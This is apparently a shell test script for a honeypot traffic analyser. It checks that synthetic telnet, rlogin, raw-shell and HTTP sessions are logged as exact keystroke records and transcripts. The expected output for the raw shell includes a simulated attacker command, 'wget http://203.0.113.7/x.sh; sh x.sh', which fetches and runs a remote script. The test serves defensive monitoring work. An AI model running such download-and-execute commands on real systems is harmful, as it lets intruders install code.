#!/bin/bash
# Session layer (sessions/, sessions.jsonl, keystrokes.jsonl) on the
# generated "sessions" capture (tests/gen/mkpcap.py): a telnet login with
# option negotiation, the server's echo and typed commands with DEL and BS;
# a binary download (summary line with the SHA-256 of the exact body); an
# rlogin session whose window-size message is split across segments; a raw
# shell on a high port; a connection with a hole (gap marker).  Exact
# keystrokes.jsonl lines and exact transcripts; sessions.jsonl ids equal the
# conn.jsonl ids of the same connections, and its byte counts equal the TCP
# payload each way counted independently from the capture.
. "$(dirname "$0")/../gen/replaylib.sh"
need_fishbowl

gen sessions "$WORK/s.pcap"
cfg=$(conf s <<'EOF_'
[honeynet]
networks = 10.0.0.0/24
EOF_
)
replay s "$cfg" "$WORK/s.pcap"
DAY="$WORK/s/2026-11-26"

want=$(cat <<'EOF_'
{"ts":"2026-11-26T08:00:00.143000Z","start":"2026-11-26T08:00:00.055000Z","honeypot":"10.0.0.5","source":"telnet","conn_id":1,"src":"198.51.100.9","sport":40100,"dst":"10.0.0.5","dport":23,"line":"root","raw":"root\r"}
{"ts":"2026-11-26T08:00:00.165000Z","start":"2026-11-26T08:00:00.165000Z","honeypot":"10.0.0.5","source":"telnet","conn_id":1,"src":"198.51.100.9","sport":40100,"dst":"10.0.0.5","dport":23,"line":"s3cret","raw":"s3cret\r"}
{"ts":"2026-11-26T08:00:00.407000Z","start":"2026-11-26T08:00:00.187000Z","honeypot":"10.0.0.5","source":"telnet","conn_id":1,"src":"198.51.100.9","sport":40100,"dst":"10.0.0.5","dport":23,"line":"uname -a","raw":"unamx\u007fe -a\r"}
{"ts":"2026-11-26T08:00:00.429000Z","start":"2026-11-26T08:00:00.429000Z","honeypot":"10.0.0.5","source":"telnet","conn_id":1,"src":"198.51.100.9","sport":40100,"dst":"10.0.0.5","dport":23,"line":"cd /tmp","raw":"cd /tmpp\u0008\r"}
{"ts":"2026-11-26T08:00:00.451000Z","start":"2026-11-26T08:00:00.451000Z","honeypot":"10.0.0.5","source":"telnet","conn_id":1,"src":"198.51.100.9","sport":40100,"dst":"10.0.0.5","dport":23,"line":"exit","raw":"exit\r"}
{"ts":"2026-11-26T08:00:20.055000Z","start":"2026-11-26T08:00:20.055000Z","honeypot":"10.0.0.5","source":"rlogin","conn_id":3,"src":"198.51.100.10","sport":1023,"dst":"10.0.0.5","dport":513,"line":"id","raw":"id\r"}
{"ts":"2026-11-26T08:00:20.099000Z","start":"2026-11-26T08:00:20.099000Z","honeypot":"10.0.0.5","source":"rlogin","conn_id":3,"src":"198.51.100.10","sport":1023,"dst":"10.0.0.5","dport":513,"line":"ls -l","raw":"ls -l\r"}
{"ts":"2026-11-26T08:00:30.033000Z","start":"2026-11-26T08:00:30.033000Z","honeypot":"10.0.0.5","source":"shell","conn_id":4,"src":"198.51.100.11","sport":51000,"dst":"10.0.0.5","dport":31337,"line":"id","raw":"id\n"}
{"ts":"2026-11-26T08:00:30.055000Z","start":"2026-11-26T08:00:30.055000Z","honeypot":"10.0.0.5","source":"shell","conn_id":4,"src":"198.51.100.11","sport":51000,"dst":"10.0.0.5","dport":31337,"line":"wget http://203.0.113.7/x.sh; sh x.sh","raw":"wget http://203.0.113.7/x.sh; sh x.sh\n"}
{"ts":"2026-11-26T08:00:30.077000Z","start":"2026-11-26T08:00:30.077000Z","honeypot":"10.0.0.5","source":"shell","conn_id":4,"src":"198.51.100.11","sport":51000,"dst":"10.0.0.5","dport":31337,"line":"exit","raw":"exit\n"}
EOF_
)
check_eq "keystrokes.jsonl: every line, exact" "$want" "$(cat "$DAY/keystrokes.jsonl" 2>&1)"

# The telnet transcript: no IAC byte, CR NUL shown as a lone CR, the
# server's echo and erase sequences as they were sent.
want=$(cat <<'EOF_'
[2026-11-26T08:00:00.033000Z] << server 10.0.0.5:23

Debian GNU/Linux 12
hp login: 
[2026-11-26T08:00:00.055000Z] >> client 198.51.100.9:40100
r
[2026-11-26T08:00:00.066000Z] << server 10.0.0.5:23
r
[2026-11-26T08:00:00.077000Z] >> client 198.51.100.9:40100
o
[2026-11-26T08:00:00.088000Z] << server 10.0.0.5:23
o
[2026-11-26T08:00:00.099000Z] >> client 198.51.100.9:40100
o
[2026-11-26T08:00:00.110000Z] << server 10.0.0.5:23
o
[2026-11-26T08:00:00.121000Z] >> client 198.51.100.9:40100
t
[2026-11-26T08:00:00.132000Z] << server 10.0.0.5:23
t
[2026-11-26T08:00:00.143000Z] >> client 198.51.100.9:40100
\r
[2026-11-26T08:00:00.154000Z] << server 10.0.0.5:23

Password: 
[2026-11-26T08:00:00.165000Z] >> client 198.51.100.9:40100
s3cret\r
[2026-11-26T08:00:00.176000Z] << server 10.0.0.5:23

Last login: Wed Nov 25
root@hp:~# 
[2026-11-26T08:00:00.187000Z] >> client 198.51.100.9:40100
u
[2026-11-26T08:00:00.198000Z] << server 10.0.0.5:23
u
[2026-11-26T08:00:00.209000Z] >> client 198.51.100.9:40100
n
[2026-11-26T08:00:00.220000Z] << server 10.0.0.5:23
n
[2026-11-26T08:00:00.231000Z] >> client 198.51.100.9:40100
a
[2026-11-26T08:00:00.242000Z] << server 10.0.0.5:23
a
[2026-11-26T08:00:00.253000Z] >> client 198.51.100.9:40100
m
[2026-11-26T08:00:00.264000Z] << server 10.0.0.5:23
m
[2026-11-26T08:00:00.275000Z] >> client 198.51.100.9:40100
x
[2026-11-26T08:00:00.286000Z] << server 10.0.0.5:23
x
[2026-11-26T08:00:00.297000Z] >> client 198.51.100.9:40100
\x7f
[2026-11-26T08:00:00.308000Z] << server 10.0.0.5:23
\x08 \x08
[2026-11-26T08:00:00.319000Z] >> client 198.51.100.9:40100
e
[2026-11-26T08:00:00.330000Z] << server 10.0.0.5:23
e
[2026-11-26T08:00:00.341000Z] >> client 198.51.100.9:40100
 
[2026-11-26T08:00:00.352000Z] << server 10.0.0.5:23
 
[2026-11-26T08:00:00.363000Z] >> client 198.51.100.9:40100
-
[2026-11-26T08:00:00.374000Z] << server 10.0.0.5:23
-
[2026-11-26T08:00:00.385000Z] >> client 198.51.100.9:40100
a
[2026-11-26T08:00:00.396000Z] << server 10.0.0.5:23
a
[2026-11-26T08:00:00.407000Z] >> client 198.51.100.9:40100
\r
[2026-11-26T08:00:00.418000Z] << server 10.0.0.5:23

Linux hp 6.1.0-13-amd64 x86_64 GNU/Linux
root@hp:~# 
[2026-11-26T08:00:00.429000Z] >> client 198.51.100.9:40100
cd /tmpp\x08\r
[2026-11-26T08:00:00.440000Z] << server 10.0.0.5:23
cd /tmpp\x08 \x08
root@hp:/tmp# 
[2026-11-26T08:00:00.451000Z] >> client 198.51.100.9:40100
exit\r
[2026-11-26T08:00:00.462000Z] << server 10.0.0.5:23

logout
[2026-11-26T08:00:00.463000Z] >> client 198.51.100.9:40100 [end: fin]
[2026-11-26T08:00:00.473000Z] << server 10.0.0.5:23 [end: fin]
EOF_
)
check_eq "telnet transcript, exact" "$want" "$(cat "$DAY/sessions/1-10.0.0.5-23.txt" 2>&1)"
check_eq "telnet transcript: no IAC (0xff) byte" 0 "$(tr -cd '\377' <"$DAY/sessions/1-10.0.0.5-23.txt" | wc -c)"

sha=$(python3 -c 'import sys, hashlib; sys.path.insert(0, sys.argv[1]); import mkpcap; print(hashlib.sha256(mkpcap.sessions_body()).hexdigest())' "$GEN_DIR")
want=$(cat <<EOF_
[2026-11-26T08:00:10.022000Z] >> client 10.0.0.5:41000
GET /x HTTP/1.0
Host: 203.0.113.7

[2026-11-26T08:00:10.033000Z] << server 203.0.113.7:80
HTTP/1.0 200 OK
Content-Length: 6000

[2026-11-26T08:00:10.048000Z] << server 203.0.113.7:80
[binary 6000 bytes sha256 $sha]
[2026-11-26T08:00:10.049000Z] >> client 10.0.0.5:41000 [end: fin]
[2026-11-26T08:00:10.059000Z] << server 203.0.113.7:80 [end: fin]
EOF_
)
check_eq "download transcript: the body as one binary line, its SHA-256" "$want" \
    "$(cat "$DAY/sessions/2-10.0.0.5-80.txt" 2>&1)"

want=$(cat <<'EOF_'
[2026-11-26T08:00:20.022000Z] >> client 198.51.100.10:1023
\x00root\x00root\x00xterm/38400\x00
[2026-11-26T08:00:20.033000Z] << server 10.0.0.5:513
\x00Last login: Wed Nov 25
$ 
[2026-11-26T08:00:20.055000Z] >> client 198.51.100.10:1023
id\r
[2026-11-26T08:00:20.066000Z] << server 10.0.0.5:513
id
uid=0(root) gid=0(root)
$ 
[2026-11-26T08:00:20.077000Z] >> client 198.51.100.10:1023
\xff\xffss\x00\x18\x00P\x00\x00\x00\x00ls -l\r
[2026-11-26T08:00:20.110000Z] << server 10.0.0.5:513
ls -l
total 0
$ 
[2026-11-26T08:00:20.111000Z] >> client 198.51.100.10:1023 [end: fin]
[2026-11-26T08:00:20.121000Z] << server 10.0.0.5:513 [end: fin]
EOF_
)
check_eq "rlogin transcript, exact" "$want" "$(cat "$DAY/sessions/3-10.0.0.5-513.txt" 2>&1)"

want=$(cat <<'EOF_'
[2026-11-26T08:00:30.022000Z] << server 10.0.0.5:31337
sh-5.2# 
[2026-11-26T08:00:30.033000Z] >> client 198.51.100.11:51000
id
[2026-11-26T08:00:30.044000Z] << server 10.0.0.5:31337
uid=0(root) gid=0(root) groups=0(root)
sh-5.2# 
[2026-11-26T08:00:30.055000Z] >> client 198.51.100.11:51000
wget http://203.0.113.7/x.sh; sh x.sh
[2026-11-26T08:00:30.066000Z] << server 10.0.0.5:31337
sh-5.2# 
[2026-11-26T08:00:30.077000Z] >> client 198.51.100.11:51000
exit
[2026-11-26T08:00:30.078000Z] >> client 198.51.100.11:51000 [end: fin]
[2026-11-26T08:00:30.088000Z] << server 10.0.0.5:31337 [end: fin]
EOF_
)
check_eq "raw shell transcript, exact" "$want" "$(cat "$DAY/sessions/4-10.0.0.5-31337.txt" 2>&1)"

want=$(cat <<'EOF_'
[2026-11-26T08:00:40.025000Z] >> client 198.51.100.12:40300
GET /a HTTP/1.0
[2026-11-26T08:00:40.025000Z] >> client 198.51.100.12:40300 [16 bytes missing]
[2026-11-26T08:00:40.025000Z] >> client 198.51.100.12:40300
Host: h

[2026-11-26T08:00:40.026000Z] << server 10.0.0.5:80
HTTP/1.0 200 OK

ok
[2026-11-26T08:00:40.026000Z] >> client 198.51.100.12:40300 [end: fin]
[2026-11-26T08:00:40.036000Z] << server 10.0.0.5:80 [end: fin]
EOF_
)
check_eq "transcript with a hole: the gap marker where it happened" "$want" \
    "$(cat "$DAY/sessions/5-10.0.0.5-80.txt" 2>&1)"

S='D("sessions.jsonl")["2026-11-26"]'
check_eq "sessions.jsonl: protocol guessed per session" \
    "1 telnet;2 http;3 rlogin;4 shell;5 http" "$(q s "rows($S, 'id', 'protocol')")"
check_eq "sessions.jsonl: the gap counted" "0 0;0 0;0 0;0 0;1 16" "$(q s "rows($S, 'gaps', 'gap_bytes')")"
check_eq "sessions.jsonl: ends, transcript paths" \
    "fin fin 2026-11-26/sessions/1-10.0.0.5-23.txt false;fin fin 2026-11-26/sessions/2-10.0.0.5-80.txt false;fin fin 2026-11-26/sessions/3-10.0.0.5-513.txt false;fin fin 2026-11-26/sessions/4-10.0.0.5-31337.txt false;fin fin 2026-11-26/sessions/5-10.0.0.5-80.txt false" \
    "$(q s "rows($S, 'end_orig', 'end_resp', 'transcript', 'truncated')")"
# The same connection in conn.jsonl: id and ends agree.
check_eq "sessions.jsonl ids and ends equal conn.jsonl's" \
    "$(q s "rows(C, 'id', 'src', 'sport', 'dst', 'dport')")" \
    "$(q s "rows($S, 'id', 'src', 'sport', 'dst', 'dport')")"
# Payload bytes each way, counted from the capture itself (no
# retransmissions in it): orig = from src:sport, resp = towards it.
from_pcap=$(python3 - "$GEN_DIR" "$WORK/s.pcap" <<'EOF_'
import socket, struct, sys
sys.path.insert(0, sys.argv[1])
import mkpcap
tot = {}
for _, _, _, f in mkpcap.read_pcap(sys.argv[2]):
    ip = f[14:]
    hl, tl = (ip[0] & 15) * 4, struct.unpack("!H", ip[2:4])[0]
    t = ip[hl:tl]
    k = (socket.inet_ntoa(ip[12:16]), struct.unpack("!H", t[:2])[0],
         socket.inet_ntoa(ip[16:20]), struct.unpack("!H", t[2:4])[0])
    tot[k] = tot.get(k, 0) + len(t) - (t[12] >> 4) * 4
conns = [k for k in tot if (k[2], k[3], k[0], k[1]) in tot and
         (k[3] in (23, 513, 31337) or (k[3] == 80 and k[1] > 1024))]
print(";".join("%s %d %d" % (k[0], tot[k], tot[(k[2], k[3], k[0], k[1])])
               for k in sorted(conns, key=lambda k: k[1])))
EOF_
)
check_eq "sessions.jsonl: bytes each way equal the capture's TCP payload (the hole is not in it)" \
    "$from_pcap" "$(q s "';'.join('%s %d %d' % (r['src'], r['bytes_orig'], r['bytes_resp']) for r in sorted($S, key=lambda r: r['sport']))")"
done_testing
